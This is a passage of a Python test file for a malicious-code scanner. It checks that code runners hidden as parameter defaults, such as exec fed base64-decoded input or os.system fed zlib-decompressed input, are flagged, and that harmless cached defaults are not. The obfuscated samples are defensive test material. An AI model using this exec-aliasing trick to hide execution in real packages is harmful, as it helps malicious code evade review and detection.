        "open(name, 'a').write('started')\n"
    )
    assert danger(source, "pkg/__init__.py") == set()


@pytest.mark.parametrize(
    "source",
    [
        "import base64\ndef _apply(blob, _run=exec, _dec=base64.b64decode):\n"
        "    _run(_dec(blob))\n_apply('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ==')\n",
        "import os, zlib\ndef go(data, *, sh=os.system, inflate=zlib.decompress):\n"
        "    sh(inflate(data))\ngo(b'x\\x9c+\\xcaL\\x01\\x00\\x02\\x93\\x01J')\n",
    ],
    ids=["exec-b64decode", "system-zlib-keyword-only"],
)
def test_a_code_runner_kept_as_a_parameters_default_is_that_runner(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    # blind19 (b19-ds-default-arg-exec-alias): BlankOBF's habit of hiding exec by another name
    found = danger(source, "pkg/__init__.py")
    assert found & {"CPL-THR-001", "CPL-THR-020"}
    found_in_a_package(tmp_path, monkeypatch, source, sorted(found)[0])


@pytest.mark.parametrize(
    "source",
    [
        # builtins cached as defaults for speed (the stdlib's habit)
        "import json\ndef count(text, _len=len, loads=json.loads):\n    return _len(loads(text))\n",
        # a printer by default, given decoded text to show
        "import base64\ndef show(blob, out=print, dec=base64.b64decode):\n"
        "    out(dec(blob))\nshow('aGVsbG8=')\n",
    ],
    ids=["cached-builtins", "print-decoded"],
)
def test_harmless_defaults_are_clean(source: str) -> None:
    assert danger(source, "pkg/__init__.py") == set()
